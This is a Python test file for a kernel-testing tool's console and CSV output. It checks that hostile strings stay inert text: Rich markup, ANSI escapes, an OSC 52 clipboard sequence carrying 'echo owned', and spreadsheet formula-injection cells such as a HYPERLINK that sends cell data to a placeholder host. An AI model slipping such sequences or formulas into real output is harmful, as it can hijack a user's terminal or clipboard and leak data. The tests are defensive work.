"""Untrusted text is inert (issue 31, item 8): a board's and a kernel's strings in the doctor
and the pipeline, and text cells of the site's CSV files.

The strings are the review's: console markup that crashed the doctor (`[/]`: MarkupError, exit
3), faked a green "ok" or concealed text, and raw ESC and OSC 52 (clipboard) sequences sent to
the admin's terminal; a `=HYPERLINK(…)` cell a spreadsheet runs. OWASP's "CSV Injection" page:
cells starting with `=`, `+`, `-`, `@`, tab or carriage return are read as formulas; a leading
single quote makes them text.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from rich.console import Console

from rtgate.board.doctor import Finding
from rtgate.board.spec import load_board
from rtgate.ciout import printable
from rtgate.cli.board import doctor_lines, doctor_table
from rtgate.pipeline import kernels as pipeline
from rtgate.report.longterm import csv_text

HOSTILE = {
    "markup crash": "6.6.0-rt [/]",
    "fake ok": "[bold green]ok[/]",
    "conceal": "[conceal]hidden[/conceal] 6.6.0",
    "raw escape": "6.6.0\x1b[8mhidden\x1b[0m",
    "osc 52": "6.6.0\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "lines": "6.6.0\n::error::forged\tcell",
}


def rendered(renderable: Any) -> str:
    out = io.StringIO()
    Console(file=out, force_terminal=True, color_system="truecolor", width=400).print(renderable)
    return out.getvalue()


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_the_doctor_shows_a_boards_strings_as_text(name: str) -> None:
    value = HOSTILE[name]
    checks = [Finding("kernel", "warn", value, value)]
    out = rendered(doctor_table("rpi5", checks))  # no MarkupError
    assert "\x1b]" not in out and "\x1b[8m" not in out and "\x07" not in out
    if "[" in value and "\x1b" not in value:
        assert value.split("\n")[0] in out  # the brackets shown as typed, never markup
    lines = doctor_lines(checks)
    assert len(lines) == 1 and lines[0].count("\t") == 3
    assert "\x1b" not in lines[0] and "\n" not in lines[0]


def test_printable_escapes_controls_and_keeps_text() -> None:
    assert printable("6.6.0-rt12-v8+") == "6.6.0-rt12-v8+"
    assert printable("a\x1b]52;c;x\x07b") == "a\\x1b]52;c;x\\x07b"
    assert printable("a\u200bb\u2028c\td") == "a\\u200bb\\u2028c\\td"


def test_the_pipeline_prints_the_builds_release_as_text(monkeypatch: pytest.MonkeyPatch,
                                                        tmp_path: Path) -> None:
    release = HOSTILE["fake ok"] + HOSTILE["osc 52"] + HOSTILE["markup crash"]
    monkeypatch.setattr(pipeline, "build", lambda *a, **k: SimpleNamespace(
        kernel_release=release, cache_hit=False, out=tmp_path / "k"))
    monkeypatch.setattr(pipeline.KernelArtifacts, "from_dir",
                        staticmethod(lambda d: SimpleNamespace(dir=d)))
    monkeypatch.setattr(pipeline.record, "keep", lambda *a: None)
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system="truecolor", width=400)
    spec = load_board("qemu-arm64")
    pipeline.kernel_for(spec, "rt", pipeline.KernelSource(None, None, None, "host"),
                        tmp_path, console)
    text = out.getvalue()
    assert "[bold green]ok[/]" in text and "\x1b]52" not in text and "\\x1b]52" in text


def test_csv_cells_open_no_formula() -> None:
    rows = [{"kernel": '=HYPERLINK("http://x.invalid/?"&A1,"details")', "commit": "+1",
             "board": "-2+3", "run": "@SUM(A1)", "note": "\tx", "max_us": -3}]
    text = csv_text(list(rows[0]), rows)
    cells = list(csv.DictReader(io.StringIO(text)))[0]
    assert cells["kernel"].startswith("'=HYPERLINK(")
    assert [cells[k][0] for k in ("commit", "board", "run", "note")] == ["'"] * 4
    assert cells["max_us"] == "-3"  # a number stays a number
